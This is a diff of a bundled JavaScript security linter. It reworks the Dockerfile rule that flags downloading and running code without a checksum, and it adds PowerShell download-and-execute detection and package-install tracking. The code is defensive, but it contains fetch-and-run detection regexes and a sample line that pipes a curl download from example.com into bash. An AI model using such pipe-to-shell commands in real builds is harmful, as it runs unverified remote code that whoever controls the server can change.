-        if ((quote !== "'" && quote !== '"') || at - start < 2 || text[at - 1] !== quote || inner.includes(quote))
-            return null;
-        return { text: inner, locate: (offset) => locate(start + 1 + offset) };
-    }
-    #part() {
-        const cursor = this.#cursor;
-        switch (cursor.char) {
-            case '\\':
-                this.#escape();
-                break;
-            case "'":
-                this.#single();
-                break;
-            case '"':
-                this.#double();
-                break;
-            case '$':
-                this.#dollar();
-                break;
-            case '`':
-                this.#backticks();
-                break;
-            case '\0':
-                cursor.at++;
-                break;
-            default:
-                this.#value += cursor.char;
-                cursor.at++;
-        }
-    }
-    #escape() {
-        const cursor = this.#cursor;
-        const next = cursor.text[cursor.at + 1] ?? '';
-        if (next === '\n')
-            cursor.at += 2;
-        else if (next === '\r' && cursor.text[cursor.at + 2] === '\n')
-            cursor.at += 3;
-        else {
-            this.#value += next;
-            cursor.at += 2;
-        }
-        cursor.at = Math.min(cursor.at, cursor.text.length);
-    }
-    #single() {
-        const cursor = this.#cursor;
-        const end = cursor.behind("'", cursor.at + 1);
-        const text = cursor.text.slice(cursor.at + 1, end);
-        this.#quoted = true;
-        this.#value += (text.endsWith("'") ? text.slice(0, -1) : text).replaceAll('\0', '');
-        cursor.at = end;
-    }
-    #double() {
-        const cursor = this.#cursor;
-        this.#quoted = true;
-        cursor.at++;
-        while (!cursor.done && cursor.char !== '"') {
-            const char = cursor.char;
-            if (char === '$')
-                this.#dollar();
-            else if (char === '`')
-                this.#backticks();
-            else if (char === '\\' && !/["\\$`\r\n]/.test(cursor.text[cursor.at + 1] ?? '')) {
-                this.#value += char;
-                cursor.at++;
-            }
-            else if (char === '\\')
-                this.#escape();
-            else {
-                if (char !== '\0')
-                    this.#value += char;
-                cursor.at++;
-            }
-        }
-        if (!cursor.done)
-            cursor.at++;
-    }
-    #dollar() {
-        const cursor = this.#cursor;
-        if (cursor.starts('$(('))
-            this.#take(cursor.behind('))'));
-        else if (cursor.starts('$('))
-            this.#substitution(2);
-        else if (cursor.starts('${{'))
-            this.#take(cursor.behind('}}'));
-        else if (cursor.starts('${'))
-            this.#parameter();
-        else if (cursor.starts("$'"))
-            this.#ansi();
-        else {
-            const start = cursor.at++;
-            if (/[@*#?$!\d-]/.test(cursor.char))
-                cursor.at++;
-            else
-                while (!cursor.done && isName(cursor.char))
-                    cursor.at++;
-            if (cursor.at > start + 1)
-                this.#literal = false;
-            this.#value += cursor.text.slice(start, cursor.at);
-        }
-    }
-    #ansi() {
-        const cursor = this.#cursor;
-        this.#quoted = true;
-        cursor.at += 2;
-        while (!cursor.done && cursor.char !== "'") {
-            if (cursor.char === '\\')
-                this.#escape();
-            else {
-                this.#value += cursor.char;
-                cursor.at++;
-            }
-        }
-        if (!cursor.done)
-            cursor.at++;
-    }
-    /** Takes the text up to `end` over as written. */
-    #take(end) {
-        const cursor = this.#cursor;
-        this.#literal = false;
-        this.#value += cursor.text.slice(cursor.at, end);
-        cursor.at = end;
-    }
-    /** `${…}` with quotes and nested braces. Commands in it (`${X:-$(curl …)}`) are rare and not read. */
-    #parameter() {
-        const { text, at: start } = this.#cursor;
-        let depth = 0;
-        for (let at = start; at < text.length; at++) {
-            const char = text[at];
-            if (char === '\\')
-                at++;
-            else if (char === '{')
-                depth++;
-            else if (char === '}' && --depth === 0) {
-                this.#take(at + 1);
-                return;
-            }
-        }
-        this.#take(text.length);
-    }
-    #substitution(openLength) {
-        const cursor = this.#cursor;
-        const start = cursor.at;
-        cursor.at += openLength;
-        this.#literal = false;
-        if (++cursor.depth > shell_words_maxDepth)
-            cursor.at = cursor.text.length;
-        else
-            this.#commands.push(...this.#readList(cursor));
-        cursor.depth--;
-        this.#value += cursor.text.slice(start, cursor.at);
-    }
-    #backticks() {
-        const cursor = this.#cursor;
-        const start = cursor.at;
-        let close = start + 1;
-        while (close < cursor.text.length && cursor.text[close] !== '`')
-            close += cursor.text[close] === '\\' ? 2 : 1;
-        this.#literal = false;
-        if (cursor.depth < shell_words_maxDepth)
-            this.#commands.push(...this.#readList(new Cursor(cursor.text.slice(0, close), cursor.locate, cursor.depth + 1, start + 1)));
-        cursor.at = Math.min(close + 1, cursor.text.length);
-        this.#value += cursor.text.slice(start, cursor.at);
-    }
-}
-
-;// CONCATENATED MODULE: ./lib/documents/shell.js
-
-const opening = new Set(['if', 'while', 'until', 'for', 'select', 'case', '{']);
-const shell_closing = new Set(['fi', 'done', 'esac', '}']);
-const shell_passing = new Set(['then', 'else', 'elif', 'do', '!', 'time', 'coproc']);
-const redirection = /\d*(?:<<<|<<-|<<|<>|<&|<|>>|>\||>&|>|&>>|&>)/y;
-/**
- * Splits a POSIX shell (or bash) script into simple commands. It is no shell: aliases, functions and values of variables are not known, and
- * text that no shell would take is read as far as it goes. Time is linear in the text.
- * @param locate gives the file's offset for an offset in the text; by default they are the same
- */
-function parseShell(text, locate = 0) {
-    const place = typeof locate === 'number' ? (at) => at + locate : locate;
-    return new ListReader(new Cursor(text, place)).read(false);
-}
-const readList = (cursor) => new ListReader(cursor).read(true);
-/** Of a group that is piped on, only the last commands are kept. */
-const maxGroup = 50;
-class ListReader {
-    #cursor;
-    #commands = [];
-    #groups = [];
-    #heredocs = [];
-    #words = [];
-    #assignments = [];
-    #redirections = [];
-    #operator = '';
-    #pipedFrom = [];
-    /** The first command of the element that ended last: a command or a group. */
-    #elementStart = 0;
-    /** Redirections that come now are those of the group. */
-    #afterGroup = false;
-    #start = 0;
-    #end = 0;
-    constructor(cursor) {
-        this.#cursor = cursor;
-    }
-    /** With `nested`, up to the parenthesis that closes the substitution. */
-    read(nested) {
-        const cursor = this.#cursor;
-        while (!cursor.done) {
-            const before = cursor.at;
-            cursor.skipBlanks();
-            if (cursor.done)
-                break;
-            if (nested && cursor.char === ')' && this.#groups.at(-1)?.kind !== '(') {
-                cursor.at++;
-                break;
-            }
-            if (!this.#separator() && !this.#redirection())
-                this.#word();
-            if (cursor.at === before)
-                cursor.at++;
-        }
-        this.#finish();
-        return this.#commands;
-    }
-    #separator() {
-        const cursor = this.#cursor;
-        const { char } = cursor;
-        if (char === '#') {
-            const end = cursor.text.indexOf('\n', cursor.at);
-            cursor.at = end < 0 ? cursor.text.length : end;
-        }
-        else if (char === '\n') {
-            cursor.at++;
-            this.#finish();
-            this.#readHeredocs();
-        }
-        else if (this.#inTest() && '&|;()'.includes(char))
-            cursor.at++;
-        else if (char === '(')
-            this.#openParenthesis();
-        else if (char === ')') {
-            cursor.at++;
-            this.#finish();
-            this.#close('(');
-        }
-        else if (char === ';' || (char === '&' && !cursor.starts('&>')) || char === '|')
-            this.#controlOperator();
-        else
-            return false;
-        return true;
-    }
-    #inTest() {
-        return this.#words[0]?.value === '[[' && this.#words.at(-1)?.value !== ']]';
-    }
-    #controlOperator() {
-        const cursor = this.#cursor;
-        const operator = ['&&', '||', ';;&', ';;', ';&', '|&', '&', '|', ';'].find((each) => cursor.starts(each)) ?? ';';
-        cursor.at += operator.length;
-        const isPipe = operator === '|' || operator === '|&';
-        this.#finish();
-        this.#operator = isPipe ? '|' : operator === '&&' || operator === '||' || operator === '&' ? operator : ';';
-        this.#pipedFrom = isPipe ? this.#commands.slice(Math.max(this.#elementStart, this.#commands.length - maxGroup)) : [];
-        if (operator.length > 1 && operator.startsWith(';') && this.#groups.at(-1)?.kind === 'case')
-            this.#skipPattern();
-    }
-    #openParenthesis() {
-        const cursor = this.#cursor;
-        if (cursor.starts('((')) {
-            cursor.at = cursor.behind('))');
-        }
-        else if (this.#words.length > 0 || this.#assignments.length > 0) {
-            // A function's `name()`, or an array's `name=(a b)`: neither runs anything.
-            cursor.at = cursor.behind(')');
-            this.#words = [];
-        }
-        else {
-            cursor.at++;
-            this.#groups.push({ kind: '(', first: this.#commands.length });
-        }
-    }
-    /** Ends the innermost group: that of a parenthesis, or with `''` any other. What does not fit, as the `)` of a pattern, ends none. */
-    #close(kind) {
-        const group = this.#groups.at(-1);
-        if (!group || (group.kind === '(') !== (kind === '('))
-            return;
-        this.#groups.pop();
-        this.#elementStart = group.first;
-        this.#afterGroup = true;
-    }
-    #word() {
-        const cursor = this.#cursor;
-        const start = cursor.at;
-        const word = new WordReader(cursor, readList).read();
-        if (!word)
-            return;
-        if (this.#words.length === 0) {
-            if (this.#keyword(word))
-                return;
-            const assignment = this.#assignment(word, start);
-            if (assignment) {
-                this.#extend(word.span.start, word.span.end);
-                this.#assignments.push(assignment);
-                return;
-            }
-        }
-        this.#extend(word.span.start, word.span.end);
-        this.#words.push(word);
-        if (word.value === 'in' && this.#words.length === 3 && this.#words[0]?.value === 'case') {
-            this.#words = [];
-            this.#skipPattern();
-        }
-    }
-    #keyword(word) {
-        if (word.quoted || !word.literal || this.#assignments.length > 0)
-            return false;
-        if (shell_passing.has(word.value))
-            return true;
-        if (word.value === 'function') {
-            this.#cursor.skipBlanks();
-            new WordReader(this.#cursor, readList).read();
-            return true;
-        }
-        if (shell_closing.has(word.value)) {
-            this.#close('');
-            return true;
-        }
-        if (!opening.has(word.value))
-            return false;
-        this.#groups.push({ kind: word.value, first: this.#commands.length });
-        return !['for', 'select', 'case'].includes(word.value);
-    }
-    #assignment(word, start) {
-        const match = /^([A-Za-z_]\w*)\+?=/.exec(word.value);
-        if (!match?.[1] || !this.#cursor.text.startsWith(match[1], start))
-            return null;
-        return { name: match[1], value: word.value.slice(match[0].length), span: word.span, commands: word.commands };
-    }
-    /** Past the patterns of one branch: `a | b)`. */
-    #skipPattern() {
-        const cursor = this.#cursor;
-        for (let first = true; !cursor.done; first = false) {
-            while (!cursor.done && /[\s\0]/.test(cursor.char))
-                cursor.at++;
-            const start = cursor.at;
-            const word = new WordReader(cursor, readList).read();
-            if (first && word?.value === 'esac') {
-                cursor.at = start;
-                return;
-            }
-            if (word)
-                continue;
-            if (cursor.done)
-                return;
-            const { char } = cursor;
-            cursor.at++;
-            if (char === ')')
-                return;
-        }
-    }
-    #redirection() {
-        const cursor = this.#cursor;
-        if (cursor.starts('<(') || cursor.starts('>('))
-            return false;
-        redirection.lastIndex = cursor.at;
-        const match = redirection.exec(cursor.text);
-        if (!match)
-            return false;
-        if (this.#inTest()) {
-            cursor.at += match[0].length;
-            return true;
-        }
-        const start = cursor.at;
-        cursor.at += match[0].length;
-        cursor.skipBlanks();
-        const target = new WordReader(cursor, readList).read();
-        if (!target)
-            return true;
-        const entry = { operator: match[0].replace(/^\d+/, ''), target, heredoc: null };
-        this.#extend(cursor.locate(start), target.span.end);
-        this.#redirections.push(entry);
-        if (entry.operator === '<<' || entry.operator === '<<-')
-            this.#heredocs.push(entry);
-        return true;
-    }
-    get #isEmpty() {
-        return this.#words.length + this.#assignments.length + this.#redirections.length === 0;
-    }
-    #extend(start, end) {
-        if (this.#isEmpty)
-            this.#start = start;
-        this.#end = end;
-    }
-    #readHeredocs() {
-        const cursor = this.#cursor;
-        for (const entry of this.#heredocs.splice(0)) {
-            const start = cursor.at;
-            let end = start;
-            while (!cursor.done) {
-                const feed = cursor.text.indexOf('\n', cursor.at);
-                const lineEnd = feed < 0 ? cursor.text.length : feed;
-                const line = cursor.text.slice(cursor.at, lineEnd).replace(/\r$/, '');
-                end = cursor.at;
-                cursor.at = Math.min(lineEnd + 1, cursor.text.length);
-                if ((entry.operator === '<<-' ? line.replace(/^\t+/, '') : line) === entry.target.value)
-                    break;
-                end = cursor.at;
-            }
-            entry.heredoc = { text: cursor.text.slice(start, end), locate: (offset) => cursor.locate(start + offset) };
-        }
-    }
-    /** Ends the command that is being read, if any. */
-    #finish() {
-        if (this.#isEmpty)
-            return;
-        if (this.#words.length + this.#assignments.length > 0 || !this.#afterGroup) {
-            this.#elementStart = this.#commands.length;
-            this.#commands.push({
-                words: this.#words,
-                assignments: this.#assignments,
-                redirections: this.#redirections,
-                span: { start: this.#start, end: this.#end },
-                operator: this.#commands.length === 0 ? '' : this.#operator,
-                pipedFrom: this.#pipedFrom,
-            });
-            this.#operator = ';';
-            this.#pipedFrom = [];
-            this.#afterGroup = false;
-        }
-        this.#words = [];
-        this.#assignments = [];
-        this.#redirections = [];
-    }
-}
-
-;// CONCATENATED MODULE: ./lib/documents/shell-commands.js
-
-/** For each: its options that take a value of their own, and how many words stand before the command. */
-const wrappers = new Map([
-    ['sudo', { valued: /^-[ugpCrtUTDRh]$|^--(?:user|group|prompt|chdir|host|role|type)$/, operands: 0 }],
-    ['doas', { valued: /^-[uC]$/, operands: 0 }],
-    ['env', { valued: /^-[uCS]$|^--(?:unset|chdir)$/, operands: 0 }],
-    ['nice', { valued: /^-n$/, operands: 0 }],
-    ['ionice', { valued: /^-[cnp]$/, operands: 0 }],
-    ['timeout', { valued: /^-[sk]$/, operands: 1 }],
-    ['xargs', { valued: /^-[InPLdEas]$/, operands: 0 }],
-    ['stdbuf', { valued: /^-[ioe]$/, operands: 0 }],
-    ['chroot', { valued: /^$/, operands: 1 }],
-    ['gosu', { valued: /^$/, operands: 1 }],
-    ['su-exec', { valued: /^$/, operands: 1 }],
-    ...['exec', 'command', 'builtin', 'nohup', 'setsid', 'time', 'busybox', 'eatmydata', 'retry', 'fakeroot'].map((name) => [name, { valued: /^-a$/, operands: 0 }]),
-]);
-const baseName = (word) => word.value.slice(word.value.lastIndexOf('/') + 1);
-const maxWrappers = 10;
-/** Null for a command that only sets variables. */
-function invocationOf(command) {
-    const taken = [];
-    let words = command.words;
-    for (;;) {
-        const [first] = words;
-        if (!first) {
-            const nameWord = taken.at(-1);
-            return nameWord ? { command, name: baseName(nameWord), nameWord, args: [], wrappers: taken.slice(0, -1) } : null;
-        }
-        const wrapper = first.literal && taken.length < maxWrappers ? wrappers.get(baseName(first)) : undefined;
-        if (!wrapper)
-            return { command, name: first.literal ? baseName(first) : '', nameWord: first, args: words.slice(1), wrappers: taken };
-        taken.push(first);
-        words = afterWrapper(words, wrapper);
-    }
-}
-function afterWrapper(words, { valued, operands }) {
-    let at = 1;
-    for (let left = operands; at < words.length; at++) {
-        const value = words[at]?.value ?? '';
-        if (value === '--') {
-            at += 1 + left;
-            break;
-        }
-        if (valued.test(value))
-            at++;
-        else if (!value.startsWith('-') && !/^[A-Za-z_]\w*=/.test(value) && left-- === 0)
-            break;
-    }
-    return words.slice(at);
-}
-const shells = /^(?:ba|da|a|z|k|mk|fi)?sh$/;
-/** Scripts in scripts in scripts are read, and no deeper. */
-const maxNesting = 5;
-const isShell = (name) => shells.test(name);
-/**
- * All commands that the script holds, in the order of the text: those of substitutions, of `sh -c '…'`, of `eval '…'`
- * and of here-documents that a shell reads, too.
- */
-function* everyCommand(commands, nesting = 0) {
-    for (const command of commands) {
-        const invocation = invocationOf(command);
-        if (invocation)
-            yield invocation;
-        if (invocation?.name === 'find')
-            yield* startedByFind(invocation);
-        const parts = [...command.words, ...command.assignments, ...command.redirections.map((redirection) => redirection.target)];
-        for (const part of parts)
-            if (part.commands.length > 0)
-                yield* everyCommand(part.commands, nesting);
-        if (!invocation || nesting >= maxNesting)
-            continue;
-        for (const script of scriptsOf(invocation))
-            yield* everyCommand(parseShell(script.text, script.locate), nesting + 1);
-    }
-}
-/** `find … -exec program … ;` */
-function* startedByFind({ command, args }) {
-    for (const [at, { value }] of args.entries()) {
-        const started = /^-(?:exec|ok)(?:dir)?$/.test(value) ? invocationOf({ ...command, words: args.slice(at + 1) }) : null;
-        if (started)
-            yield started;
-    }
-}
-function scriptsOf({ command, name, args }) {
-    if (name === 'eval')
-        return args.flatMap((arg) => arg.content ?? []);
-    if (!isShell(name) && name !== 'su' && name !== 'runuser')
-        return [];
-    const at = args.findIndex((arg) => /^-[a-z]*c$/.test(arg.value));
-    if (at >= 0)
-        return [args[at + 1]?.content ?? []].flat();
-    return command.redirections.flatMap((redirection) => redirection.heredoc ?? []);
-}
-
-;// CONCATENATED MODULE: ./lib/documents/dockerfile-commands.js
-
-
-const dockerfile_commands_known = new WeakMap();
-const dockerfile_commands_parsed = new WeakMap();
-/** The commands of RUN, CMD, ENTRYPOINT and HEALTHCHECK at the top of their script; none where it is PowerShell, cmd or Python. */
-function shellCommands(instruction) {
-    let commands = dockerfile_commands_parsed.get(instruction);
-    if (commands === undefined) {
-        commands = dockerfile_commands_read(instruction);
-        dockerfile_commands_parsed.set(instruction, commands);
-    }
-    return commands;
-}
-/** All commands of the instruction, those inside substitutions and inner scripts too. */
-function invocations(instruction) {
-    let found = dockerfile_commands_known.get(instruction);
-    if (found === undefined) {
-        found = [...everyCommand(shellCommands(instruction))];
-        dockerfile_commands_known.set(instruction, found);
-    }
-    return found;
-}
-function dockerfile_commands_read(instruction) {
-    const { script, form, words, document } = instruction;
-    if (script)
-        return script.language === 'posix' ? parseShell(script.text, script.offset) : [];
-    if (form !== 'exec' || words.length === 0)
-        return [];
-    const values = words.map((word) => ({
-        value: word.value,
-        span: word.span,
-        literal: true,
-        quoted: true,
-        commands: [],
-        content: { text: document.text.value.slice(word.span.start + 1, word.span.end - 1), locate: (at) => word.span.start + 1 + at },
-    }));
-    const span = { start: values[0]?.span.start ?? 0, end: values.at(-1)?.span.end ?? 0 };
-    return [{ words: values, assignments: [], redirections: [], span, operator: '', pipedFrom: [] }];
-}
 
 ;// CONCATENATED MODULE: ./lib/rules/dockerfile/docker-socket-mount.js
 
@@ -46060,6 +46140,20 @@ const docker_socket_mount_sourceOf = (text) => /(?:^|,)(?:source|src)=([^,]+)/.e
         }
     },
 }));
+
+;// CONCATENATED MODULE: ./lib/documents/powershell-downloads.js
+const powershell_downloads_runs = String.raw `(?:iex|Invoke-Expression)\b`;
+const loads = String.raw `(?:iwr|irm|curl|wget|Invoke-WebRequest|Invoke-RestMethod|DownloadString|Start-BitsTransfer)\b`;
+/** `iwr URL | iex`, and `iex ((New-Object Net.WebClient).DownloadString(URL))`; in one statement. */
+const piped = new RegExp(String.raw `\b${loads}[^;\n]{0,500}\|\s{0,100}${powershell_downloads_runs}`, 'gi');
+const powershell_downloads_nested = new RegExp(String.raw `\b${powershell_downloads_runs}[^;\n|]{0,300}\b${loads}[^;\n|]{0,300}`, 'gi');
+/** Statements of a PowerShell script that run what they download. */
+const powershellDownloads = (script, locate) => [piped, powershell_downloads_nested]
+    .flatMap((form) => [...script.matchAll(form)])
+    .map(({ index, 0: text }) => {
+    const span = locate({ start: index, end: index + text.trimEnd().length });
+    return { span, download: span, program: 'Invoke-Expression', file: null };
+});
 
 ;// CONCATENATED MODULE: ./lib/documents/shell-options.js
 /** The word is the short option, alone or in a cluster (`-fsSLk`); what stands behind an option that takes a value is its value. */
@@ -46104,6 +46198,11 @@ const shell_downloads_baseName = (path) => path.slice(path.lastIndexOf('/') + 1)
 /** Keeps the names of downloaded files from one script to the next, as RUN after RUN and step after step share a file system. */
 class DownloadTracker {
     #files = new Map();
+    #installs;
+    /** @param installs whether to install a downloaded package counts as to run it, as its scripts do run */
+    constructor(installs = false) {
+        this.#installs = installs;
+    }
     /** A file that came by other means than a command (`ADD https://…`). */
     add(path, span) {
         if (this.#files.size < maxFiles)
@@ -46123,26 +46222,28 @@ class DownloadTracker {
         return runs;
     }
     #run({ command, name, nameWord, args }) {
-        const run = (download, file = null) => [{ span: hull(download, command.span), download, program: name, file }];
+        const told = (download, file = null) => [{ span: hull(download, command.span), download, program: name, file }];
         if (name === 'eval' || name === 'source' || name === '.' || isInterpreter(name)) {
             const inner = [...args, ...command.redirections.map((redirection) => redirection.target)].flatMap((word) => word.commands);
             const download = inner.find(isUnpinned);
             if (download)
-                return run(download.span);
+                return told(download.span);
         }
         const script = isInterpreter(name) || name === 'source' || name === '.' ? scriptOf(name, args) : null;
         if (script === 'input') {
             const source = this.#source(command);
             if (source)
-                return run(source);
+                return told(source);
         }
         const path = script === null ? nameWord.value : script === 'input' ? '' : script.value;
-        const known = path === '' ? undefined : this.#find(path);
+        const run = path === '' ? undefined : this.#find(path);
+        const installed = this.#installs && !run ? installedFiles(name, args).map((file) => this.#find(file)) : [];
+        const known = run ?? installed.find((each) => each !== undefined);
         if (!known)
             return undefined;
         // Told once for each download.
         this.#files.delete(known[0]);
-        return [{ span: command.span, download: known[1], program: name, file: path }];
+        return [{ span: command.span, download: known[1], program: name, file: run ? path : known[0] }];
     }
     /** The download at the head of the pipeline. */
     #source(command) {
@@ -46168,6 +46269,21 @@ class DownloadTracker {
                 return [known, span];
         return undefined;
     }
+}
+/** Package managers that take files, and the words behind which they do. */
+const fileInstallers = [
+    [/^dpkg$/, /^(?:-i|--install)$/],
+    [/^rpm$/, /^(?:-[a-zA-Z]*[iU][a-zA-Z]*|--install|--upgrade)$/],
+    [/^(?:apt|apt-get|yum|dnf|microdnf|zypper|pip[\d.]*|npm|gem|snap)$/, /^(?:install|in|i|localinstall)$/],
+    [/^apk$/, /^add$/],
+];
+/** Words behind an installer's verb; those that are no downloaded files are not found among them. */
+function installedFiles(name, args) {
+    const isModule = /^python[\d.]*$/.test(name) && args[0]?.value === '-m';
+    const words = (isModule ? args.slice(2) : args).map(({ value }) => value);
+    const program = isModule ? (args[1]?.value ?? '') : name;
+    const at = words.findIndex((word) => fileInstallers.some(([form, verb]) => form.test(program) && verb.test(word)));
+    return at < 0 ? [] : words.slice(at + 1).filter((word) => word !== '' && !word.startsWith('-'));
 }
 const normalize = (path) => path.replace(/^(?:\.\/)+/, '');
 const hull = (a, b) => ({ start: Math.min(a.start, b.start), end: Math.max(a.end, b.end) });
@@ -46221,6 +46337,8 @@ function outputs({ name, args, command }) {
         return [shell_downloads_baseName(words.at(-1) ?? '')].filter(Boolean);
     return copyOutputs(words);
 }
+/** With a scheme, or with a variable in its place. */
+const isAddress = /^(?:\w+:\/\/|\$\{?\w+\}?\S*\/)./;
 const addressName = (word) => shell_downloads_baseName(word.replace(/[?#].*$/, ''));
 function curlOutputs(words) {
     const files = [];
@@ -46246,7 +46364,7 @@ function wgetOutputs(words) {
         if (word === '-P' || word === '-d')
             folder = `${(words[at + 1] ?? '').replace(/\/$/, '')}/`;
     }
-    return words.filter((word) => /^\w+:\/\//.test(word)).map((word) => folder + addressName(word));
+    return words.filter((word) => isAddress.test(word)).map((word) => folder + addressName(word));
 }
 /** `gsutil cp gs://b/f TO`, `aws s3 cp s3://b/f TO`, `aws s3api get-object --key f TO`. */
 function copyOutputs(words) {
@@ -46266,10 +46384,12 @@ function copyOutputs(words) {
 
 
 
+
 /* harmony default export */ const download_then_run = (defineRule({
     id: 'dockerfile/download-then-run',
     severity: 'high',
     threat: 'runtime',
+    strictly: 'a downloaded package that is installed, as its scripts run as well.',
     summary: 'Something is downloaded and run without a check',
     why: 'Whoever holds that server, or the address of the file, decides what runs while the image is built, and what is in it.',
     instead: 'Download a fixed version to a file, compare it with a checksum that is written here, then run it. `ADD --checksum=sha256:…` does the first two.',
@@ -46277,29 +46397,40 @@ function copyOutputs(words) {
     peers: ['scorecard:Pinned-Dependencies', 'semgrep:curl-eval', 'poutine:unverified_script_exec'],
     bad: 'FROM debian:13.1\nRUN curl -fsSL https://example.com/install.sh | bash\nUSER 1000\n',
     good: 'FROM debian:13.1\nADD --checksum=sha256:0f5b6b5c0d9d8a2e4a1f3d7b9c1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293a https://example.com/install.sh /tmp/install.sh\nRUN bash /tmp/install.sh\nUSER 1000\n',
-    on: 'stage',
-    *check(stage) {
-        const tracker = new DownloadTracker();
-        for (const outer of stage.instructions) {
-            const instruction = outer.onbuild ?? outer;
-            const { keyword, words, flags } = instruction;
-            if (keyword === 'ADD' && /^https?:/.test(words[0]?.value ?? '') && !flags.some(({ name }) => name === 'checksum'))
-                tracker.add(addTarget(words[0]?.value ?? '', words.at(-1)?.value ?? ''), instruction.span);
-            if (!['RUN', 'CMD', 'ENTRYPOINT'].includes(keyword))
-                continue;
-            const runs = (keyword === 'RUN' ? tracker : new DownloadTracker()).read(shellCommands(instruction));
-            for (const { span, download, program, file } of runs)
-                yield {
-                    at: { span },
-                    // One download is one fact, in whichever stage and however it is run.
-                    subject: 'Dockerfile',
-                    identity: withoutVersions(stage.document.text.slice(download)),
-                    message: file === null ? `"${program}" runs what is downloaded, without a check` : `"${file}" is downloaded and run without a check`,
-                    related: file === null ? [] : [{ at: { span: download }, message: 'downloaded here' }],
-                };
-        }
+    on: 'dockerfile',
+    *check({ document, stages, instructions }, { strict }) {
+        // What stands before any FROM is a piece that others are put together from.
+        const pieces = [instructions.filter(({ stage }) => stage === null), ...stages.map((stage) => stage.instructions)];
+        for (const piece of pieces)
+            yield* downloads(piece, document, strict);
     },
 }));
+function* downloads(instructions, { text }, strict) {
+    const tracker = new DownloadTracker(strict);
+    for (const outer of instructions) {
+        const instruction = outer.onbuild ?? outer;
+        const { keyword, words, flags } = instruction;
+        if (keyword === 'ADD' && /^https?:/.test(words[0]?.value ?? '') && !flags.some(({ name }) => name === 'checksum'))
+            tracker.add(addTarget(words[0]?.value ?? '', words.at(-1)?.value ?? ''), instruction.span);
+        if (!['RUN', 'CMD', 'ENTRYPOINT'].includes(keyword))
+            continue;
+        const runs = (keyword === 'RUN' ? tracker : new DownloadTracker(strict)).read(shellCommands(instruction));
+        runs.push(...inPowershell(instruction));
+        for (const { span, download, program, file } of runs)
+            yield {
+                at: { span },
+                // One download is one fact, in whichever stage and however it is run.
+                subject: 'Dockerfile',
+                identity: withoutVersions(text.slice(download)),
+                message: file === null ? `"${program}" runs what is downloaded, without a check` : `"${file}" is downloaded and run without a check`,
+                related: file === null ? [] : [{ at: { span: download }, message: 'downloaded here' }],
+            };
+    }
+}
+/** With SHELL, or as the program that the default shell starts. */
+const inPowershell = ({ script }) => script && (script.language === 'other' || /\b(?:powershell|pwsh)\b/i.test(script.text))
+    ? powershellDownloads(script.text, ({ start, end }) => ({ start: script.offset + start, end: script.offset + end }))
+    : [];
 const addTarget = (address, to) => (to.endsWith('/') ? to + address.slice(address.lastIndexOf('/') + 1) : to);
 
 ;// CONCATENATED MODULE: ./lib/documents/dockerfile-lineage.js
@@ -46395,112 +46526,6 @@ const dropsPrivileges = (stage) => stage.instructions
     .filter(({ keyword }) => keyword === 'ENTRYPOINT' || keyword === 'CMD')
     .flatMap(invocations)
     .some(({ name, wrappers }) => dropping.test(name) || wrappers.some((word) => dropping.test(word.value.split('/').at(-1) ?? '')));
-
-;// CONCATENATED MODULE: ./lib/documents/expression-literals.js
-
-/** The texts written in an expression that it can give, as one or as items of a list (`fromJSON('["a"]')`), with what is known of contexts. */
-function* yieldedTexts(expression, known) {
-    if (expression.kind === 'operation' && expression.operator === '&&') {
-        const last = expression.operands.at(-1);
-        if (last && expression.operands.every((operand) => truth(operand, known) !== false))
-            yield* yieldedTexts(last, known);
-    }
-    else if (expression.kind === 'operation' && expression.operator === '||') {
-        for (const operand of expression.operands) {
-            yield* yieldedTexts(operand, known);
-            if (truth(operand, known) === true)
-                return;
-        }
-    }
-    else if (expression.kind === 'call' && expression.name === 'fromjson') {
-        const [text] = expression.arguments;
-        if (text)
-            for (const json of yieldedTexts(text, known))
-                yield* textsInJson(json);
-    }
-    else {
-        const value = fold(expression, known);
-        if (typeof value === 'string')
-            yield value;
-    }
-}
-function textsInJson(json) {
-    try {
-        const value = JSON.parse(json);
-        return [value].flat().filter((each) => typeof each === 'string');
-    }
-    catch {
-        return [];
-    }
-}
-
-;// CONCATENATED MODULE: ./lib/documents/workflow-runner.js
-
-
-
-
-/**
- * The labels that `runs-on` asks for: a string, a list, or `labels` below a group. Values of the matrix are put in where they are known, and of
- * another expression the texts that it can give; where none is written in it, it stands for itself.
- */
-function runnerLabels(job, known = new Map()) {
-    const runsOn = job.at('runs-on');
-    return scalars(runsOn?.kind === 'map' ? runsOn.at('labels') : runsOn).flatMap((node) => expanded(job, node, known));
-}
-const scalars = (node) => (node?.kind === 'scalar' ? [node] : scalarsIn(node));
-function expanded(job, node, known) {
-    const asWritten = [{ value: node.string, node }];
-    const [fence] = findExpressions(node.string);
-    const isAlone = fence !== undefined && fence.span.start === 0 && fence.span.end === node.string.length;
-    if (!isAlone || !fence.expression)
-        return asWritten;
-    const { items, complete } = matrixItems(job, fence.expression);
-    if (complete)
-        return items.flatMap(scalars).map((label) => ({ value: label.string, node: label }));
-    const texts = [...yieldedTexts(fence.expression, known)];
-    return texts.length > 0 ? texts.map((value) => ({ value, node })) : asWritten;
-}
-
-;// CONCATENATED MODULE: ./lib/documents/workflow-shell.js
-
-
-
-
-
-/** The shell that runs the step: its own, the defaults of the job and the workflow, or the runner's. */
-function workflow_shell_shellLanguage({ job, at }) {
-    const shell = at('shell') ?? job?.at('defaults', 'run', 'shell') ?? job?.workflow.at('defaults', 'run', 'shell');
-    if (shell?.string === undefined || shell.string.includes('${{')) {
-        const labels = job ? runnerLabels(job) : [];
-        return labels.length > 0 && labels.every(({ value }) => value.toLowerCase().includes('windows')) ? 'powershell' : 'posix';
-    }
-    if (/\b(?:pwsh|powershell)\b/i.test(shell.string))
-        return 'powershell';
-    if (/^cmd\b/i.test(shell.string))
-        return 'cmd';
-    return /\b(?:ba|da|z|k|a)?sh\b/.test(shell.string) ? 'posix' : 'other';
-}
-const workflow_shell_parsed = new WeakMap();
-/** The commands of a step's `run` at the top of its script, spans in the file; none where it is no POSIX shell. An expression is read as a variable. */
-function stepCommands(step) {
-    let commands = workflow_shell_parsed.get(step);
-    if (commands === undefined) {
-        const { run, document } = step;
-        const locate = (at) => (run ? spanWithin(run, document.text, { start: at, end: at }).start : 0);
-        commands = run && workflow_shell_shellLanguage(step) === 'posix' ? parseShell(workflow_shell_maskExpressions(run.string), locate) : [];
-        workflow_shell_parsed.set(step, commands);
-    }
-    return commands;
-}
-/** All commands of a step's script, those of substitutions and inner scripts too. */
-const stepInvocations = (step) => [...everyCommand(stepCommands(step))];
-/** Each `${{ … }}` as a variable of the same length, so that its quotes and braces do not count. */
